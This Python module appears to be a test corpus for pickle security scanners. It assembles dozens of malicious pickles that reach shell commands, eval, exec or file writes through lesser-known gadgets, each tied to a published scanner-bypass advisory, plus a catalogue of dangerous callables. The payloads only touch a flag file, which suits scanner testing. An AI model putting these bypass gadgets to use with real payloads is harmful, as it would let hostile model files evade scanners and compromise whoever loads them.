"""Functions that malicious pickles call, each behind one call, as scanners that work by lists have missed them.

`RUN` really make the flag file when they are loaded; a test loads each in a process of its own and sees it. `NAMED` are
of packages that may not be there, or would reach for a network, a debugger or another system: they are never loaded.
"""

from __future__ import annotations

import marshal
import pickle

from corpus.pickle_bytes import EXPRESSION, FLAG, PYTHON, SHELL, call, name, pickled

_GADGETS = "https://arxiv.org/abs/2508.19774"
_PICKLESCAN = "https://github.com/mmaitre314/picklescan/security/advisories/"
_FICKLING = "https://github.com/trailofbits/fickling/security/advisories/"
_PROFILERS = _PICKLESCAN + "GHSA-4675-36f9-wf6r"
_OPERATOR = _PICKLESCAN + "GHSA-m273-6v24-x4m4"
_NESTED = _PICKLESCAN + "GHSA-84r2-jw7c-4r5q"
_NETWORK = _PICKLESCAN + "GHSA-hgrh-qx5j-jfwx"
_DESKTOP = _PICKLESCAN + "GHSA-r8g5-cgf2-4m4m"
_RESOLVE = _PICKLESCAN + "GHSA-vvpj-8cmc-gx39"
_BUILTINS = _FICKLING + "GHSA-h4rm-mm56-xf63"
_SUPPORT = _FICKLING + "GHSA-5hwf-rc88-82xm"
_JFROG = "https://jfrog.com/blog/unveiling-3-zero-day-vulnerabilities-in-picklescan/"
_DOCUMENTED = "https://docs.python.org/3/library/pickle.html"


class Calls:
    """Pickles into a call."""

    def __init__(self, function: object, *arguments: object) -> None:
        self._call = (function, arguments)

    def __reduce__(self) -> object:
        return self._call


def _system(protocol: int) -> bytes:
    import os

    return pickle.dumps(Calls(os.system, SHELL), protocol)


_OS = call("importlib:import_module", "os")
_INNER = _system(2)
_CODE = marshal.dumps(compile(PYTHON, "model", "exec"))


def _one(callee: str, *arguments: object) -> bytes:
    return pickled(call(callee, *arguments))


RUN: dict[str, tuple[bytes, str]] = {
    **{f"os-system-protocol-{protocol}": (_system(protocol), _DOCUMENTED) for protocol in range(6)},
    "posix-system": (_one("posix:system", SHELL), _DOCUMENTED),
    "os-popen": (pickled(call("builtins:getattr", call("os:popen", SHELL), "read") + b")R"), _DOCUMENTED),
    "os-spawnlp": (_one("os:spawnlp", 0, "touch", "touch", FLAG), _GADGETS),
    "os-posix-spawn": (_one("os:posix_spawn", "/bin/sh", ["sh", "-c", SHELL], {"PATH": "/usr/bin:/bin"}), _GADGETS),
    "subprocess-popen": (_one("subprocess:Popen", ["touch", FLAG]), _DOCUMENTED),
    "subprocess-check-call": (_one("subprocess:check_call", ["touch", FLAG]), _DOCUMENTED),
    "subprocess-getoutput": (_one("subprocess:getoutput", SHELL), _DOCUMENTED),
    "commands-getoutput-of-python-2": (pickled(call("commands:getoutput", SHELL), 2), _DOCUMENTED),
    "eval": (_one("builtins:eval", EXPRESSION), _BUILTINS),
    "exec": (_one("builtins:exec", PYTHON), _BUILTINS),
    "eval-of-python-2": (pickled(call("__builtin__:eval", EXPRESSION), 2), _BUILTINS),
    "compile-then-eval": (_one("builtins:eval", call("builtins:compile", PYTHON, "model", "exec")), _BUILTINS),
    "open-for-writing": (_one("builtins:open", FLAG, "w"), _BUILTINS),
    "getattr-of-import": (
        pickled(call(call("builtins:getattr", call("builtins:__import__", "os"), "system"), SHELL)), _BUILTINS,
    ),
    "map-through-bytes": (_one("builtins:bytes", call("builtins:map", name("os:system"), [SHELL])), _GADGETS),
    "pty-spawn": (_one("pty:spawn", ["touch", FLAG]), _FICKLING + "GHSA-r7v6-mfhq-g3m2"),
    "cprofile-run": (_one("cProfile:run", PYTHON), _PROFILERS),
    "cprofile-runctx": (_one("cProfile:runctx", PYTHON, {}, {}), _PROFILERS),
    "profile-run": (_one("profile:run", PYTHON), _PICKLESCAN + "GHSA-46h3-79wf-xr6c"),
    "timeit-timeit": (_one("timeit:timeit", "pass", PYTHON), _PICKLESCAN + "GHSA-v7x6-rv5q-mhwc"),
    "timeit-main": (_one("timeit:main", ["-n1", "-r1", PYTHON]), _PICKLESCAN + "GHSA-v7x6-rv5q-mhwc"),
    "trace-run": (_one("trace:Trace.run", call("trace:Trace", 0, 0), PYTHON), _PROFILERS),
    "bdb-run": (_one("bdb:Bdb.run", call("bdb:Bdb"), PYTHON), _PROFILERS),
    "interactive-interpreter": (
        _one("code:InteractiveInterpreter.runsource", call("code:InteractiveInterpreter"), PYTHON), _DESKTOP,
    ),
    "grammar-loads": (
        _one("lib2to3.pgen2.grammar:Grammar.loads", call("lib2to3.pgen2.grammar:Grammar"), _INNER), _DESKTOP,
    ),
    "numpy-getlincoef": (_one("numpy.f2py.crackfortran:getlincoef", EXPRESSION, ["x"]), _GADGETS),
    "numpy-runstring": (_one("numpy.testing._private.utils:runstring", PYTHON, {}), _GADGETS),
    "operator-methodcaller": (pickled(call(call("operator:methodcaller", "system", SHELL), _OS)), _OPERATOR),
    "operator-attrgetter": (pickled(call(call(call("operator:attrgetter", "system"), _OS), SHELL)), _OPERATOR),
    "native-operator-methodcaller": (pickled(call(call("_operator:methodcaller", "system", SHELL), _OS)), _OPERATOR),
    "operator-itemgetter": (
        pickled(call(call(call("operator:itemgetter", "eval"), call("builtins:vars", call(
            "importlib:import_module", "builtins"))), EXPRESSION)), _OPERATOR,
    ),
    "functools-partial": (pickled(call(call("functools:partial", name("os:system"), SHELL))), _GADGETS),
    "functools-reduce": (_one("functools:reduce", name("shutil:copyfile"), ["/dev/null", FLAG]), _GADGETS),
    "import-module-chain": (pickled(call(call("builtins:getattr", _OS, "system"), SHELL)), _RESOLVE),
    "pkgutil-resolve-name": (pickled(call(call("pkgutil:resolve_name", "os:system"), SHELL)), _RESOLVE),
    "pydoc-locate": (pickled(call(call("pydoc:locate", "os.system"), SHELL)), _RESOLVE),
    "pydoc-pipepager": (_one("pydoc:pipepager", "text", SHELL), _RESOLVE),
    "marshal-and-function": (
        pickled(call(call("types:FunctionType", call("marshal:loads", _CODE), {}))), _FICKLING + "GHSA-565g-hwwr-4pp3",
    ),
    "pickle-loads": (_one("pickle:loads", _INNER), _NESTED),
    "native-pickle-loads": (_one("_pickle:loads", _INNER), _NESTED),
    "python-pickle-loads": (_one("pickle:_loads", _INNER), _NESTED),
    "uuid-command": (_one("uuid:_get_command_stdout", "touch", FLAG), _SUPPORT),
    "osx-support": (_one("_osx_support:_read_output", SHELL), _SUPPORT),
    "atexit-register": (_one("atexit:register", name("os:system"), SHELL), _FICKLING + "GHSA-m6fh-58r7-x697"),
    "imaplib-stream": (_one("imaplib:IMAP4_stream", SHELL), _GADGETS),
    "shutil-copyfile": (_one("shutil:copyfile", "/dev/null", FLAG), _JFROG),
    "distutils-write-file": (_one("distutils.file_util:write_file", FLAG, ["x"]), _JFROG),
    "pathlib-touch": (_one("pathlib:Path.touch", call("pathlib:PosixPath", FLAG)), _GADGETS),
    "fileio": (_one("_io:FileIO", FLAG, "w"), _PICKLESCAN + "GHSA-7wx9-6375-f5wh"),
    "logging-filehandler": (_one("logging:FileHandler", FLAG), _PICKLESCAN + "GHSA-7wx9-6375-f5wh"),
    "sqlite3-connect": (_one("sqlite3:connect", FLAG), _GADGETS),
    "zipfile-zipfile": (_one("zipfile:ZipFile", FLAG, "w"), _GADGETS),
    "tarfile-open": (_one("tarfile:TarFile", FLAG, "w"), _GADGETS),
    "gzip-open": (_one("gzip:open", FLAG, "wb"), _GADGETS),
    "codecs-open": (_one("codecs:open", FLAG, "w"), _GADGETS),
    "numpy-memmap": (_one("numpy:memmap", FLAG, "u1", "w+", 0, (1,)), _GADGETS),
    "threading-timer": (
        pickled(call("threading:Timer.start", call("threading:Timer", 0, name("os:system"), [SHELL]))), _GADGETS,
    ),
    "thread-start-new": (
        pickled(call("_thread:start_new_thread", name("os:system"), (SHELL,)) + call("time:sleep", 0.2) + b"0"),
        _GADGETS,
    ),
    "runpy-run-code": (
        _one("runpy:_run_code", call("builtins:compile", PYTHON, "model", "exec"), {}), _GADGETS,
    ),
    "subinterpreter": (
        _one("_xxsubinterpreters:run_string", call("_xxsubinterpreters:create"), PYTHON),
        _FICKLING + "GHSA-6ggj-6f2q-f7mx",
    ),
}  # fmt: skip

_BY_MODULE: dict[str, tuple[str, str]] = {
    "pip": ("main _internal.main", "CVE-2025-1716"),
    "pip._internal.cli.main": ("main", "CVE-2025-1716"),
    "ensurepip": ("_run_pip bootstrap", _PICKLESCAN + "GHSA-xp4f-hrf8-rxw7"),
    "venv": ("main create", _PICKLESCAN + "GHSA-vqmv-47xg-9wpr"),
    "asyncio.unix_events": ("_UnixSubprocessTransport._start", "CVE-2025-10157"),
    "asyncio.base_subprocess": ("BaseSubprocessTransport", "CVE-2025-10157"),
    "pdb": ("run runeval runcall", _PROFILERS),
    "doctest": ("debug_script testsource", _PROFILERS),
    "idlelib.run": ("Executive.runcode", _DESKTOP),
    "idlelib.pyshell": ("ModifiedInterpreter.runcode ModifiedInterpreter.runcommand", _DESKTOP),
    "idlelib.autocomplete": ("AutoComplete.get_entity AutoComplete.fetch_completions", _DESKTOP),
    "idlelib.calltip": ("get_entity Calltip.fetch_tip", _DESKTOP),
    "idlelib.debugobj": ("ObjectTreeItem.SetText", _DESKTOP),
    "lib2to3.pgen2.pgen": ("ParserGenerator.make_label", _DESKTOP),
    "code": ("InteractiveInterpreter.runcode interact", _DESKTOP),
    "rlcompleter": ("Completer.attr_matches", _DESKTOP),
    "numpy.f2py.crackfortran": ("_eval_length param_eval", _PICKLESCAN),
    "numpy.ctypeslib": ("load_library", _GADGETS),
    "numpy": ("load fromfile save loadtxt genfromtxt", _GADGETS),
    "torch": ("load save hub.load ops.load_library classes.load_library", _GADGETS),
    "torch.hub": ("load download_url_to_file", _GADGETS),
    "torch.serialization": ("load _legacy_load", _NESTED),
    "torch.storage": ("_load_from_bytes", _NESTED),
    "torch.jit": ("load", _GADGETS),
    "torch.package": ("PackageImporter", _GADGETS),
    "torch.utils.bottleneck.__main__": ("run_cprofile run_autograd_prof", _PICKLESCAN),
    "torch.utils.collect_env": ("run", _PICKLESCAN),
    "torch.utils.cpp_extension": ("load_inline load", _GADGETS),
    "torch.utils._config_module": ("ConfigModule.load_config", _PICKLESCAN),
    "torch.utils.data.datapipes.utils.decoder": ("basichandlers", _PICKLESCAN),
    "torch.utils.data._utils.worker": ("_worker_loop", _GADGETS),
    "torch.jit.unsupported_tensor_ops": ("execWrapper", _PICKLESCAN),
    "torch.fx.experimental.symbolic_shapes": ("ShapeEnv.evaluate_guards_expression", _PICKLESCAN),
    "torch.fx.graph_module": ("_forward_from_src reduce_graph_module", _GADGETS),
    "torch._dynamo.guards": ("GuardBuilder.get", _PICKLESCAN),
    "torch._inductor.codecache": ("compile_file PyCodeCache.load", _PICKLESCAN),
    "torch.distributed.elastic.multiprocessing": ("start_processes", _GADGETS),
    "torch.testing._internal.common_utils": ("shell run_tests", _GADGETS),
    "torch.nn.modules.linear": ("Linear", "https://docs.pytorch.org/docs/stable/notes/serialization.html"),
    "joblib": ("load", _NESTED),
    "joblib.numpy_pickle_compat": ("NDArrayWrapper ZNDArrayWrapper", _GADGETS),
    "joblib.memory": ("_load_output", _GADGETS),
    "pandas": ("read_pickle eval read_csv", _NESTED),
    "pandas.core.computation.eval": ("eval", _GADGETS),
    "dill": ("loads", _NESTED),
    "dill._dill": ("_create_function _import_module _create_code", _NESTED),
    "cloudpickle": ("loads", _NESTED),
    "cloudpickle.cloudpickle": ("_make_function _builtin_type subimport", _PICKLESCAN),
    "sklearn.utils._joblib": ("load", _GADGETS),
    "sklearn.metrics._dist_metrics": ("PyFuncDistance64", _GADGETS),
    "tensorflow": ("io.read_file keras.models.load_model", _GADGETS),
    "keras.models": ("load_model", _GADGETS),
    "types": ("CodeType", _FICKLING + "GHSA-565g-hwwr-4pp3"),
    "marshal": ("loads load", _FICKLING + "GHSA-565g-hwwr-4pp3"),
    "ctypes": ("CDLL cdll.LoadLibrary memmove string_at", _FICKLING + "GHSA-wfq2-52f7-7qvj"),
    "_ctypes": ("dlopen", _FICKLING + "GHSA-wfq2-52f7-7qvj"),
    "_posixsubprocess": ("fork_exec", _FICKLING + "GHSA-m6fh-58r7-x697"),
    "site": ("addpackage addsitedir", _FICKLING + "GHSA-m6fh-58r7-x697"),
    "_interpreters": ("run_string", _FICKLING + "GHSA-6ggj-6f2q-f7mx"),
    "importlib.machinery": ("SourceFileLoader ExtensionFileLoader", _RESOLVE),
    "importlib.util": ("spec_from_file_location", _RESOLVE),
    "importlib": ("reload __import__", _RESOLVE),
    "imp": ("load_source load_dynamic", _RESOLVE),
    "zipimport": ("zipimporter", _RESOLVE),
    "runpy": ("run_path run_module", _GADGETS),
    "webbrowser": ("open get", _NETWORK),
    "urllib.request": ("urlopen urlretrieve", _NETWORK),
    "http.client": ("HTTPSConnection", _NETWORK),
    "ssl": ("get_server_certificate", _NETWORK),
    "socket": ("create_connection socket", _NETWORK),
    "smtplib": ("SMTP", _NETWORK),
    "ftplib": ("FTP", _NETWORK),
    "requests.api": ("get", _NETWORK),
    "aiohttp.client": ("ClientSession", _NETWORK),
    "nt": ("system", _DOCUMENTED),
    "sys": ("exit modules setprofile", _DOCUMENTED),
    "os": ("remove kill fork putenv", _DOCUMENTED),
    "shutil": ("rmtree move", _JFROG),
    "signal": ("raise_signal", _GADGETS),
    "gc": ("get_objects", _GADGETS),
    "builtins": ("breakpoint input globals setattr delattr type memoryview", _BUILTINS),
    "__builtin__": ("apply execfile reload file", _BUILTINS),
    "dataclasses": ("_create_fn", _GADGETS),
    "typing": ("ForwardRef._evaluate", _GADGETS),
    "unittest.mock": ("_importer _patch", _GADGETS),
    "_aix_support": ("_read_cmd_output", _SUPPORT),
    "string": ("Formatter.format", _GADGETS),
    "logging.config": ("dictConfig", _GADGETS),
    "antigravity": ("fly", _GADGETS),
    "__main__": ("Model", _DOCUMENTED),
}  # fmt: skip

NAMED: dict[str, tuple[bytes, str]] = {
    f"named-{module}-{function}".replace(".", "-").replace("_", "-").lower(): (
        pickled(call(f"{module}:{function}", FLAG)), reference,
    )
    for module, (functions, reference) in _BY_MODULE.items()
    for function in functions.split()
}  # fmt: skip
